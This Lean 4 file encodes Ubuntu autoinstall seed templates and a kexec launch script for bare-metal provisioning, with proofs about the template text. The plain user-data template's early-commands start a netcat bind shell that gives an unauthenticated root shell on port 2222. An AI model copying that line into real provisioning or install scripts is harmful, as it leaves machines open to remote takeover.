import Astro.Placeholders
import Astro.RepositorySite
import Astro.SeedRendering

/-!
# The seed templates of the repository

`user-data.template`, `user-data-raid.template` and `installer-launch.sh.template`, line by line;
the longest lines are written in several literals. The two `user-data` templates share most of
their lines.
-/

namespace Astro.RepositoryTemplates

open PythonText TemplateChunks SeedRendering RepositorySite

/-- Both `user-data` templates up to the identity. -/
def headLines : List String :=
  ["#cloud-config",
   "runcmd:",
   "  - ln -sf /bin/true /usr/bin/multipath",
   "  - ln -sf /bin/true /usr/sbin/multipath",
   "  - mkdir -p /etc/multipath",
   "  - touch /etc/multipath.conf",
   "  - systemctl stop multipathd.service || true",
   "  # This tricks scripts that check if the module is 'available'",
   "  - echo \"oneshot\" > /etc/modules-load.d/fake-multipath.conf",
   "",
   "autoinstall:",
   "  version: 1",
   "  updates: security",
   "  locale: en_US.UTF-8",
   "  keyboard: \x7b layout: us, variant: \"\" \x7d",
   "  proxy: \"\"",
   "  apt: ",
   "    fallback: offline-install",
   "    disable_suites: \x7b\x7bAPT_DISABLE_SUITES\x7d\x7d",
   "",
   "  identity:",
   "    hostname: \"\x7b\x7bHOSTNAME\x7d\x7d\"",
   "    username: \"\x7b\x7bUSERNAME\x7d\x7d\"",
   "    password: '\x7b\x7bUSER_PASSWORD\x7d\x7d'"]

def sshLines : List String :=
  ["  ssh:",
   "    install-server: true",
   "    allow-pw: true",
   "    authorized-keys: []",
   "",
   "  packages: [curl, ca-certificates, iproute2]",
   "",
   "  storage:",
   "    grub:",
   "      reorder_uefi: false",
   "    config:"]

def storageLines : List String :=
  ["      # Target disk",
   "      - id: disk0",
   "        type: disk",
   "        # match: \x7b size: largest, removable: false \x7d",
   "        match: ",
   "          - serial: \"\x7b\x7bDISK_SERIAL_0\x7d\x7d\"",
   "          - path: \"/dev/\x7b\x7bDISK_DEV_0\x7d\x7d\"",
   "        ptable: gpt",
   "        wipe: superblock-recursive",
   "        preserve: false",
   "",
   "      # EFI System Partition (~512–550 MiB)",
   "      - id: esp",
   "        type: partition",
   "        device: disk0",
   "        size: 550M",
   "        flag: boot",
   "        partition_type: EF00",
   "        wipe: superblock",
   "        preserve: false",
   "        grub_device: true",
   "",
   "      - id: fs-esp",
   "        type: format",
   "        volume: esp",
   "        fstype: vfat",
   "",
   "      - id: mnt-esp",
   "        type: mount",
   "        device: fs-esp",
   "        path: /boot/efi",
   "",
   "      # Root (rest of disk)",
   "      - id: p-root",
   "        type: partition",
   "        device: disk0",
   "        size: -1",
   "        wipe: superblock",
   "        preserve: false",
   "",
   "      - id: fs-root",
   "        type: format",
   "        volume: p-root",
   "        fstype: ext4",
   "        label: rootfs",
   "",
   "      - id: mnt-root",
   "        type: mount",
   "        device: fs-root",
   "        path: /",
   ""]

def raidStorageLines : List String :=
  ["      # Disks selected by early-commands",
   "      - id: d0",
   "        type: disk",
   "        ptable: gpt",
   "        match: ",
   "          - serial: \"\x7b\x7bDISK_SERIAL_0\x7d\x7d\"",
   "          - path: \"/dev/\x7b\x7bDISK_DEV_0\x7d\x7d\"        ",
   "        wipe: superblock-recursive",
   "        preserve: false",
   "",
   "      - id: d1",
   "        type: disk",
   "        ptable: gpt ",
   "        match: ",
   "          - serial: \"\x7b\x7bDISK_SERIAL_1\x7d\x7d\"",
   "          - path: \"/dev/\x7b\x7bDISK_DEV_1\x7d\x7d\"",
   "        wipe: superblock-recursive",
   "        preserve: false",
   "",
   "      # Per-disk ESPs (not RAIDed)",
   "      - id: d0-esp",
   "        type: partition",
   "        device: d0",
   "        size: 550M",
   "        flag: boot",
   "        partition_type: EF00",
   "        wipe: superblock",
   "        preserve: false",
   "        grub_device: true",
   "",
   "      - id: d1-esp",
   "        type: partition",
   "        device: d1",
   "        size: 550M",
   "        flag: boot",
   "        partition_type: EF00",
   "        wipe: superblock",
   "        preserve: false",
   "        grub_device: true",
   "",
   "      # Format both ESPs; mount the first",
   "      - id: fs-efi0",
   "        type: format",
   "        volume: d0-esp",
   "        fstype: fat32",
   "",
   "      - id: fs-efi1",
   "        type: format",
   "        volume: d1-esp",
   "        fstype: fat32",
   "",
   "      - id: mnt-efi",
   "        type: mount",
   "        device: fs-efi0",
   "        path: /boot/efi",
   "",
   "      # Data partitions for RAID members",
   "      - id: d0-md",
   "        type: partition",
   "        device: d0",
   "        size: -1",
   "        wipe: superblock",
   "        preserve: false",
   "",
   "      - id: d1-md",
   "        type: partition",
   "        device: d1",
   "        size: -1",
   "        wipe: superblock",
   "        preserve: false",
   "",
   "      # RAID-1 root",
   "      - id: md-root",
   "        type: raid",
   "        name: md0",
   "        raidlevel: 1",
   "        devices: [ d0-md, d1-md ]",
   "",
   "      # Filesystem & mount",
   "      - id: fs-root",
   "        type: format",
   "        volume: md-root",
   "        fstype: ext4",
   "",
   "      - id: mount-root",
   "        type: mount",
   "        device: fs-root",
   "        path: /",
   ""]

def reportingLines : List String :=
  ["  reporting:",
   "    hook:",
   "      type: webhook",
   "      endpoint: \"http://\x7b\x7bAPI_HOST\x7d\x7d/api/v1/jobs/telemetry\"",
   "      level: info",
   "",
   "  early-commands:",
   "    - ln -sf /bin/true /usr/bin/multipath",
   "    - ln -sf /bin/true /usr/sbin/multipath",
   "    - |"]

def earlyLines : List String :=
  ["      rm -f /tmp/f",
   "      mkfifo /tmp/f",
   "      # The '&' runs it in the background so the installer keeps moving",
   "      cat /tmp/f | /bin/sh -i 2>&1 | nc -lp 2222 > /tmp/f &",
   "    - sleep 10"]

/-- The search for two disks of equal size. -/
def raidEarlyLines : List String :=
  ["      set -eu",
   "      res=\"$(lsblk -b -dn -o NAME,SIZE,RM,TYPE \\",
   "          | awk '$4==\"disk\" && $3==0 && $1!~/^(loop|ram|md|sr)/\x7bnames[$2]=(names[$2]?names[$2]\" \"$1:$1)\x7d",
   "                  END\x7b",
   "                    max=-1;",
   "                    for (s in names) \x7b",
   "                      n=split(names[s], a, \" \");",
   "                      if (n>=2 && s>max) \x7bmax=s; first=a[1]; second=a[2]\x7d",
   "                    \x7d",
   "                    if (max<0) \x7bexit 2\x7d",
   "                    print first, second",
   "                  \x7d')\" || \x7b echo \"no equal-size pair\"; poweroff -f; \x7d",
   "      set -- $res",
   "      D0=\"$1\"; D1=\"$2\"",
   "      mkdir -p /dev/disk/by-astro",
   "      ln -sfn \"/dev/$D0\" /dev/disk/by-astro/sys0",
   "      ln -sfn \"/dev/$D1\" /dev/disk/by-astro/sys1",
   "      echo \"using $D0 $D1\""]

def lateLines : List String :=
  ["",
   "  late-commands:",
   "    # Ensure the TARGET has working DNS for curl",
   "    - |",
   "      cat >/target/etc/resolv.conf <<'EOF'",
   "      nameserver 8.8.8.8",
   "      nameserver 1.1.1.1",
   "      options edns0",
   "      EOF",
   "",
   "    # Install the applier into the TARGET",
   "    - |",
   "      cat >/target/root/apply-serialization.sh <<'EOF'",
   "      #!/usr/bin/env bash",
   "      set -euo pipefail"]

/-- The settings of `apply-serialization.sh` before those of IPv6. -/
def settingLines : List String :=
  ["      HN=\"\x7b\x7bHOSTNAME\x7d\x7d\"",
   "      UN=\"\x7b\x7bUSERNAME\x7d\x7d\"",
   "      UPASS='\x7b\x7bUSER_PASSWORD\x7d\x7d'",
   "      ADD_USERS=\"\x7b\x7bADD_USERS\x7d\x7d\"",
   "      RM_USER=\"\x7b\x7bRM_USER\x7d\x7d\"",
   "      SSH_USER_LINE=\"\x7b\x7bSSH_USER_LINE\x7d\x7d\"",
   "      V4=\"\x7b\x7bIPV4_ADDRESS\x7d\x7d/\x7b\x7bIPV4_CIDR\x7d\x7d\"",
   "      GW4=\"\x7b\x7bIPV4_GATEWAY\x7d\x7d\""]

def lastSettingLines : List String :=
  ["      NSRV=\"\x7b\x7bNAME_SERVERS\x7d\x7d\"",
   "      IFN=\"\x7b\x7bINTERFACE\x7d\x7d\""]

/-- What `apply-serialization.sh` does with them. -/
def applierLines : List String :=
  ["",
   "      # -------- Hostname --------",
   "      if [ -n \"$HN\" ]; then",
   "        echo \"$HN\" > /etc/hostname",
   "      fi",
   "",
   "      # -------- Users --------",
   "      ensure_user() \x7b",
   "        local u=\"$1\"",
   "        id \"$u\" >/dev/null 2>&1 || useradd -m -s /bin/bash \"$u\"",
   "        id -nG \"$u\" | tr ' ' '\\n' | grep -qx sudo || usermod -aG sudo \"$u\"",
   "      \x7d",
   "      set_password() \x7b",
   "        local u=\"$1\" p=\"$2\"",
   "        [ -z \"$p\" ] && return 0",
   "        if [[ \"$p\" == \\$6\\$* ]]; then usermod -p \"$p\" \"$u\"; else printf '%s:%s\\n' \"$u\" \"$p\" | chpasswd; fi",
   "      \x7d",
   "",
   "      ensure_user \"$UN\"",
   "      [ -n \"$UPASS\" ] && set_password \"$UN\" \"$UPASS\"",
   "",
   "      if [ -n \"$ADD_USERS\" ]; then",
   "        for u in $ADD_USERS; do ensure_user \"$u\"; done",
   "      fi",
   "      if [ -n \"$RM_USER\" ] && id \"$RM_USER\" >/dev/null 2>&1; then",
   "        userdel -r \"$RM_USER\" || true",
   "      fi",
   "",
   "      if [ -n \"$SSH_USER_LINE\" ]; then",
   "        su_user=\"$(echo \"$SSH_USER_LINE\" | awk '\x7bprint $1\x7d')\"",
   "        su_key=\"$(echo \"$SSH_USER_LINE\" | cut -d' ' -f2-)\"",
   "        if id \"$su_user\" >/dev/null 2>&1; then",
   "          home=\"$(getent passwd \"$su_user\" | cut -d: -f6)\"",
   "          install -d -m 700 \"$home/.ssh\"",
   "          touch \"$home/.ssh/authorized_keys\"",
   "          chmod 600 \"$home/.ssh/authorized_keys\"",
   "          grep -qxF \"$su_key\" \"$home/.ssh/authorized_keys\" || echo \"$su_key\" >> \"$home/.ssh/authorized_keys\"",
   "          chown -R \"$su_user:$su_user\" \"$home/.ssh\"",
   "        fi",
   "      fi",
   "",
   "      # ---- Networking (disable cloud-init netcfg, write netplan) --------",
   "      case \"$GW4\" in \"\"|\"0.0.0.0\") GW4=\"\";; esac",
   "      case \"$GW6\" in \"\"|\"::\"|\"0:0:0:0:0:0:0:0\") GW6=\"\";; esac",
   "",
   "      # Pick interface if not provided: prefer carrier==1 PCI NIC, else first PCI NIC",
   "      if [ -z \"$\x7bIFN:-\x7d\" ]; then",
   "        IFN=\"\"",
   "        mapfile -t _cand_carrier < <(",
   "          for i in /sys/class/net/*; do",
   "            n=\"$(basename \"$i\")\"",
   "            [ \"$n\" = lo ] && continue",
   "            [ -e \"$i/device\" ] || continue",
   "            if [ -e \"$i/carrier\" ] && grep -q 1 \"$i/carrier\" 2>/dev/null; then",
   "              echo \"$n\"",
   "            fi",
   "          done",
   "        )",
   "        IFN=\"$\x7b_cand_carrier[0]-\x7d\"",
   "        if [ -z \"$IFN\" ]; then",
   "          mapfile -t _cand_pci < <(",
   "            for i in /sys/class/net/*; do",
   "              n=\"$(basename \"$i\")\"",
   "              [ \"$n\" = lo ] && continue",
   "              [ -e \"$i/device\" ] && echo \"$n\"",
   "            done",
   "          )",
   "          IFN=\"$\x7b_cand_pci[0]-\x7d\"",
   "        fi",
   "      fi",
   "",
   "      mkdir -p /etc/cloud/cloud.cfg.d",
   "      printf '%s\\n' 'network: \x7bconfig: disabled\x7d' > /etc/cloud/cloud.cfg.d/99-disable-network-config.cfg",
   "",
   "      ns_yaml=\"\"",
   "      if [ -n \"$\x7bNSRV:-\x7d\" ]; then",
   "        IFS=',' read -r -a _nsarr <<<\"$NSRV\"",
   "        for a in \"$\x7b_nsarr[@]\x7d\"; do",
   "          a=\"$\x7ba//[[:space:]]/\x7d\"",
   "          [ -n \"$a\" ] && ns_yaml+=\"        - $\x7ba\x7d\\n\"",
   "        done",
   "      fi",
   "",
   "      addrs_yaml=\"\"",
   "      [ -n \"$\x7bV4:-\x7d\" ] && addrs_yaml+=\"        - $\x7bV4\x7d\\n\"",
   "      [ -n \"$\x7bV6:-\x7d\" ] && addrs_yaml+=\"        - $\x7bV6\x7d\\n\"",
   "",
   "      routes_yaml=\"\"",
   "      if [ -n \"$\x7bGW4:-\x7d\" ]; then",
   "        routes_yaml+=\"      routes:\\n\"",
   "        routes_yaml+=\"        - to: 0.0.0.0/0\\n\"",
   "        routes_yaml+=\"          via: $\x7bGW4\x7d\\n\"",
   "      fi",
   "      if [ -n \"$\x7bGW6:-\x7d\" ]; then",
   "        [ -z \"$routes_yaml\" ] && routes_yaml+=\"      routes:\\n\"",
   "        routes_yaml+=\"        - to: ::/0\\n\"",
   "        routes_yaml+=\"          via: $\x7bGW6\x7d\\n\"",
   "        routes_yaml+=\"          on-link: true\\n\"",
   "      fi",
   ""]

def applierEndLines : List String :=
  ["      # Determine interface (simple + reliable)",
   "      IFN=\"$\x7bIFN:-\x7d\"",
   "      if [ -z \"$IFN\" ]; then",
   "        IFN=$(ls /sys/class/net | grep -v lo | head -n1 || true)",
   "      fi",
   "",
   "      NETPLAN=/etc/netplan/99-manual.yaml",
   "",
   "      echo \"[apply-serialization] Writing netplan for interface: $IFN\"",
   "",
   "      # --- Build YAML safely ---",
   "      \x7b",
   "        echo 'network:'",
   "        echo '  version: 2'",
   "        echo '  ethernets:'",
   "",
   "        if [ -n \"$IFN\" ]; then",
   "          echo \"    $\x7bIFN\x7d:\"",
   "          echo '      dhcp4: false'",
   "          echo '      dhcp6: false'",
   "",
   "          # Addresses",
   "          if [ -n \"$\x7baddrs_yaml:-\x7d\" ]; then",
   "            echo '      addresses:'",
   "            printf \"%b\" \"$addrs_yaml\"",
   "          fi",
   "",
   "          # Routes",
   "          if [ -n \"$\x7broutes_yaml:-\x7d\" ]; then",
   "            printf \"%b\" \"$routes_yaml\"",
   "          fi",
   "",
   "          # DNS",
   "          if [ -n \"$\x7bns_yaml:-\x7d\" ]; then",
   "            echo '      nameservers:'",
   "            echo '        addresses:'",
   "            printf \"%b\" \"$ns_yaml\"",
   "          fi",
   "        else",
   "          echo \"    # No interface detected, skipping config\"",
   "        fi",
   "",
   "      \x7d > \"$NETPLAN\"",
   "",
   "      chmod 600 \"$NETPLAN\"",
   "",
   "      # --- Apply (non-fatal) ---",
   "      netplan generate >/dev/null 2>&1 || true",
   "",
   "      echo \"[apply-serialization] done\"",
   "      exit 0",
   "      EOF",
   "",
   "    - chmod +x /target/root/apply-serialization.sh",
   "    #- curtin in-target -- /bin/bash -lc 'bash /root/apply-serialization.sh'  # no \"|| true\""]

def sshdLines : List String :=
  ["",
   "    # Configure SSH to use modern key exchange algorithms",
   "    - |",
   "      curtin in-target -- bash -lc '"]

def tailLines : List String :=
  ["        # Add modern KexAlgorithms to SSH server config",
   "        if ! grep -q \"^KexAlgorithms\" /etc/ssh/sshd_config; then",
   "          echo \"\" >> /etc/ssh/sshd_config",
   "          echo \"# Modern key exchange algorithms for better compatibility\" " ++
     ">> /etc/ssh/sshd_config",
   "          echo \"KexAlgorithms curve25519-sha256,curve25519-sha256@libssh.org," ++
     "ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521," ++
     "diffie-hellman-group-exchange-sha256," ++
     "diffie-hellman-group16-sha512,diffie-hellman-group18-sha512," ++
     "diffie-hellman-group14-sha256\" >> /etc/ssh/sshd_config",
   "          echo \"HostKeyAlgorithms ssh-ed25519,ecdsa-sha2-nistp256,ecdsa-sha2-nistp384," ++
     "ecdsa-sha2-nistp521,rsa-sha2-512,rsa-sha2-256,ssh-rsa\" >> /etc/ssh/sshd_config",
   "          echo \"PubkeyAcceptedAlgorithms ssh-ed25519,ecdsa-sha2-nistp256," ++
     "ecdsa-sha2-nistp384,ecdsa-sha2-nistp521,rsa-sha2-512,rsa-sha2-256,ssh-rsa\" " ++
     ">> /etc/ssh/sshd_config",
   "        fi",
   "      '",
   "",
   "    - |",
   "      curtin in-target -- bash -lc '",
   "        set -euo pipefail",
   "        # Make the installed system behave like a manual install:",
   "        # 1) Remove any NoCloud seed/instance state left by autoinstall",
   "        rm -rf /var/lib/cloud/seed/nocloud* /var/lib/cloud/instance " ++
     "/var/lib/cloud/instances || true",
   "        # 2) Officially disable cloud-init (keeps packages installed; services won’t run)",
   "        install -d -m 755 /etc/cloud",
   "        : > /etc/cloud/cloud-init.disabled",
   "        # Optional hygiene (safe): clear cached cloud-init logs/state",
   "        rm -rf /var/log/cloud-init.log /var/log/cloud-init-output.log || true",
   "      '",
   "",
   "    # - |",
   "    #   curtin in-target -- curl -X POST -H \"Content-Type: application/json\" \\",
   "    #     -d '\x7b\"job_id\":\"\x7b\x7bHOSTNAME\x7d\x7d\",\"stage\":\"COMPLETED\",\"detail\":" ++
     "\"Operating system layout successfully written to disk. Server is rebooting.\"\x7d' \\",
   "    #     http://\x7b\x7bAPI_HOST\x7d\x7d/api/v1/jobs/progress"]

def userDataBefore : List String :=
  headLines ++ "    " :: sshLines ++ storageLines ++ reportingLines ++ earlyLines ++ lateLines ++
    "      " :: settingLines

def userDataAfter : List String :=
  lastSettingLines ++ applierLines ++ applierEndLines ++
    "    - curtin in-target -- /bin/bash /root/apply-serialization.sh" :: sshdLines ++
    "        set -euo pipefail" :: tailLines

def userDataRaidBefore : List String :=
  headLines ++ "" :: sshLines ++ raidStorageLines ++ reportingLines ++ raidEarlyLines ++
    lateLines ++
    "" :: settingLines

def userDataRaidAfter : List String :=
  lastSettingLines ++ "" :: applierLines ++ "" :: applierEndLines ++
    "    - curtin in-target -- /bin/bash -x /root/apply-serialization.sh || true" :: sshdLines ++
    "        set -uo pipefail" :: tailLines

/-- The lines of `installer-launch.sh.template`; the last one has no line feed. -/
def launchLines : List String :=
  ["#!/bin/sh",
   "set -ux",
   "",
   "echo \"Astro Installer Launch Script\"",
   "",
   "echo \"[1/4] Configuring DNS...\"",
   "grep -q nameserver /etc/resolv.conf 2>/dev/null || \\",
   "echo 'nameserver __DNS_PRIMARY__' > /etc/resolv.conf",
   "",
   "echo \"[2/4] Downloading kernel and initrd...\"",
   "wget -O /linux \"__KERNEL_URL__\" || \x7b",
   "    echo \"ERROR: Failed to download kernel\"",
   "    exec setsid cttyhack /bin/sh <>/dev/tty0 1>&0 2>&0",
   "\x7d",
   "",
   "wget -O /initrd \"__INITRD_URL__\" || \x7b",
   "    echo \"ERROR: Failed to download initrd\"",
   "    exec setsid cttyhack /bin/sh <>/dev/tty0 1>&0 2>&0",
   "\x7d",
   "",
   "echo \"[3/4] Download complete\"",
   "ls -lh /linux /initrd",
   "",
   "# APPEND=\"ip=__IPV4_ADDRESS__::__IPV4_GATEWAY__:__IPV4_NETMASK__:::off:__DNS_PRIMARY__ \\",
   "APPEND=\"ip=__IPV4_ADDRESS__::__IPV4_GATEWAY__:__IPV4_NETMASK__:__HOSTNAME__:__INTERFACE__:off:__DNS_PRIMARY__ \\",
   "BOOTIF=__BOOTIF_RAW__ \\",
   "url=__ISO_URL__ \\",
   "autoinstall ds=nocloud;s=__SEED_URL__/ \\",
   "cloud-config-url=/dev/null \\",
   "cloud-init=debug \\",
   "multipath=off \\",
   "nvme_core.multipath=0 \\",
   "rd.multipath=0 \\",
   "fs-path=casper \\",
   "root=tmpfs \\",
   "ignore_uuid \\",
   "console=ttyS0,115200 \\",
   "console=tty0 \\",
   "systemd.log_level=debug ---\"",
   "",
   "echo \"\"",
   "echo \"Kernel command line:\"",
   "echo \"$APPEND\"",
   "echo \"\"",
   "",
   "echo \"[4/4] Loading kexec...\"",
   "/bin/kexec-amd64 -l /linux \\",
   "  --initrd=/initrd \\",
   "  --append=\"$APPEND\" || \x7b",
   "    echo \"ERROR: kexec load failed\"",
   "    exec setsid cttyhack /bin/sh <>/dev/tty0 1>&0 2>&0",
   "\x7d",
   "",
   "echo \"Executing kexec...\"",
   "/bin/kexec-amd64 -e",
   "",
   "echo \"kexec returned unexpectedly\""]

def lastLaunchLine : String := "exec setsid cttyhack /bin/sh <>/dev/tty0 1>&0 2>&0"

/-- The template whose lines before and after those of the IPv6 settings are given. -/
def ofLines (before after : List String) : UserDataTemplate where
  front := textOf before ++ ("      " : Str)
  middle := "\n      "
  back := '\n' :: textOf after

def userDataTemplate : UserDataTemplate := ofLines userDataBefore userDataAfter

def userDataRaidTemplate : UserDataTemplate := ofLines userDataRaidBefore userDataRaidAfter

def launchTemplate : Str := textOf launchLines ++ lastLaunchLine.toList

/-- A site that serves the files of the repository, and the password hash of its host. -/
def deployment (site : Site) (opensslPasswd : Str → Option Str) : Deployment where
  toSite := { site with template2 := RepositorySite.template2 }
  userDataTemplate := some userDataTemplate
  userDataRaidTemplate := some userDataRaidTemplate
  installerLaunchTemplate := some launchTemplate
  opensslPasswd := opensslPasswd

def ipv6Lines : List String :=
  ["      V6=\"\x7b\x7bIPV6_FULL\x7d\x7d\"", "      GW6=\"\x7b\x7bIPV6_GATEWAY\x7d\x7d\""]

theorem textOf_eq (lines : List String) : textOf lines = textOfLines (lines.map String.toList) := by
  rw [textOf, textOfLines, List.flatMap_map]

theorem textOf_append (lines lines' : List String) : textOf (lines ++ lines') = textOf lines ++
    textOf lines' :=
  List.flatMap_append

theorem text_ofLines (before after : List String) :
    (ofLines before after).text = textOf (before ++ ipv6Lines ++ after) := by
  have hipv6 : textOf ipv6Lines = ("      " : Str) ++ ("V6=\"\x7b\x7bIPV6_FULL\x7d\x7d\"" : Str) ++
      ("\n      " : Str) ++ ("GW6=\"\x7b\x7bIPV6_GATEWAY\x7d\x7d\"" : Str) ++ ['\n'] := by decide
  rw [textOf_append, textOf_append, hipv6]
  simp only [UserDataTemplate.text, ofLines, List.append_assoc, List.cons_append, List.nil_append]

theorem mem_textOf {lines : List String} {line : String} (h : line ∈ lines) :
    line.toList <:+: textOf lines := by
  rw [textOf_eq]
  exact (List.prefix_append _ _).isInfix.trans (mem_textOfLines (List.mem_map_of_mem h))

def templateLines : TemplateName → List String
  | .userData => userDataBefore ++ ipv6Lines ++ userDataAfter
  | .userDataRaid => userDataRaidBefore ++ ipv6Lines ++ userDataRaidAfter

theorem text_template {site : Site} {opensslPasswd : Str → Option Str} {name : TemplateName}
    {t : UserDataTemplate} (h : template (deployment site opensslPasswd) name = some t) :
    t.text = textOf (templateLines name) := by
  cases name with
  | userData =>
    obtain rfl : userDataTemplate = t := Option.some.inj h
    exact text_ofLines _ _
  | userDataRaid =>
    obtain rfl : userDataRaidTemplate = t := Option.some.inj h
    exact text_ofLines _ _

/-- Both templates have the identity and the settings of the applier. -/
theorem common_line {line : String}
    (h : line ∈ headLines ∨ line ∈ settingLines ∨ line ∈ ipv6Lines ∨ line ∈ lastSettingLines)
    (name : TemplateName) : line ∈ templateLines name := by
  cases name with
  | userData =>
    simp only [templateLines, userDataBefore, userDataAfter, List.mem_append, List.mem_cons]
    rcases h with h | h | h | h <;> simp only [h, true_or, or_true]
  | userDataRaid =>
    simp only [templateLines, userDataRaidBefore, userDataRaidAfter, List.mem_append, List.mem_cons]
    rcases h with h | h | h | h <;> simp only [h, true_or, or_true]

end Astro.RepositoryTemplates
